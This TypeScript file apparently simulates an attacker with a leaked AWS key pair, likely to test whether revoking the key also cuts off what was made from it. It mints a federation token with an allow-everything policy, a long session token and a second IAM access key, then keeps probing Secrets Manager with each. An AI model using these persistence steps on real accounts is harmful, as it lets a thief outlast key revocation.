import { readFileSync } from 'node:fs';
import { CreateAccessKeyCommand, IAMClient } from '@aws-sdk/client-iam';
import { ListSecretsCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { GetFederationTokenCommand, GetSessionTokenCommand, STSClient } from '@aws-sdk/client-sts';
import { type AttackerConfig, type AttackerLine, type Fate, Loot } from './messages.ts';

/**
 * A thief with a leaked pair, quick and not subtle: it makes at once whatever outlives the pair, and then tries everything it holds over and
 * over. It tries each at the call it came for; that a session may still be asked who it is proves nothing about what it may do.
 */
const [path] = process.argv.slice(2);
if (path === undefined) {
  process.stderr.write('usage: main.ts CONFIG.json\n');
  process.exit(2);
}
const config = JSON.parse(readFileSync(path, 'utf8')) as AttackerConfig;

interface Credentials {
  readonly accessKeyId: string;
  readonly secretAccessKey: string;
  readonly sessionToken?: string;
}
type Track = { -readonly [K in keyof Fate]: Fate[K] };

const say = (line: AttackerLine): void => {
  process.stdout.write(`${JSON.stringify(line)}\n`);
};
const settings = (credentials: Credentials) => ({
  endpoint: config.aws.endpoint,
  region: config.aws.region,
  credentials,
  maxAttempts: 1,
  requestHandler: { connectionTimeout: 2_000, requestTimeout: 4_000 },
});
const answerOf = (error: unknown): string =>
  (error as { $metadata?: { httpStatusCode?: number } }).$metadata?.httpStatusCode === undefined ? 'unreachable' : (error as Error).name;

const tracks = new Map<Loot, Track>();
const timers: NodeJS.Timeout[] = [];
let stopping = false;

/** Tries one credential now and every so often, and says when the answer turns. */
function keepTrying(loot: Loot, credentials: Credentials): void {
  const client = new SecretsManagerClient(settings(credentials));
  const track: Track = { loot, accessKeyId: credentials.accessKeyId, ok: 0, refused: 0 };
  tracks.set(loot, track);
  const attempt = async (): Promise<void> => {
    let answer = 'ok';
    try {
      await client.send(new ListSecretsCommand({ MaxResults: 20 }));
    } catch (error) {
      answer = answerOf(error);
    }
    const at = Date.now();
    if (answer === 'ok') {
      track.ok += 1;
      track.firstOkAt ??= at;
      track.lastOkAt = at;
    } else if (answer !== 'unreachable') track.refused += 1;
    if (answer !== track.answer) {
      say({ type: 'turned', at, loot, from: track.answer ?? null, to: answer });
      track.answer = answer;
      track.since = at;
    }
  };
  void attempt();
  timers.push(setInterval(() => void attempt(), config.everyMs));
}

async function make(loot: Loot, via: string, mint: () => Promise<Credentials>): Promise<void> {
  try {
    const credentials = await mint();
    say({ type: 'made', at: Date.now(), loot, accessKeyId: credentials.accessKeyId, via });
    keepTrying(loot, credentials);
  } catch (error) {
    say({ type: 'not-made', at: Date.now(), loot, via, answer: answerOf(error) });
  }
}

function session(answer: {
  readonly Credentials?:
    | { AccessKeyId?: string | undefined; SecretAccessKey?: string | undefined; SessionToken?: string | undefined }
    | undefined;
}): Credentials {
  const { AccessKeyId, SecretAccessKey, SessionToken } = answer.Credentials ?? {};
  if (!AccessKeyId || !SecretAccessKey || !SessionToken) throw new Error('the answer holds no credentials');
  return { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey, sessionToken: SessionToken };
}

say({ type: 'ready', at: Date.now(), pid: process.pid });
const sts = new STSClient(settings(config.leaked));
const iam = new IAMClient(settings(config.leaked));
const everything = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });
keepTrying(Loot.LEAKED, config.leaked);
await Promise.all([
  make(Loot.FEDERATION, 'sts:GetFederationToken', async () =>
    session(await sts.send(new GetFederationTokenCommand({ Name: 'ci-backup', Policy: everything, DurationSeconds: 129_600 }))),
  ),
  make(Loot.SESSION, 'sts:GetSessionToken', async () => session(await sts.send(new GetSessionTokenCommand({ DurationSeconds: 129_600 })))),
  make(Loot.SECOND, 'iam:CreateAccessKey', async () => {
    // Without a name it is the caller's own user, which saves the thief the question who that is.
    const { AccessKey } = await iam.send(new CreateAccessKeyCommand({}));
    if (!AccessKey?.AccessKeyId || !AccessKey.SecretAccessKey) throw new Error('the answer holds no key');
    return { accessKeyId: AccessKey.AccessKeyId, secretAccessKey: AccessKey.SecretAccessKey };
  }),
]);
const fates = (): readonly Fate[] => [...tracks.values()];
timers.push(setInterval(() => say({ type: 'fates', at: Date.now(), fates: fates() }), 1_000));

function stop(): void {
  if (stopping) return;
  stopping = true;
  for (const timer of timers) clearInterval(timer);
  say({ type: 'total', at: Date.now(), fates: fates() });
  process.exit(0);
}
process.once('SIGTERM', stop);
process.once('SIGINT', stop);
// Whoever started it is gone.
process.stdin.on('close', stop).resume();
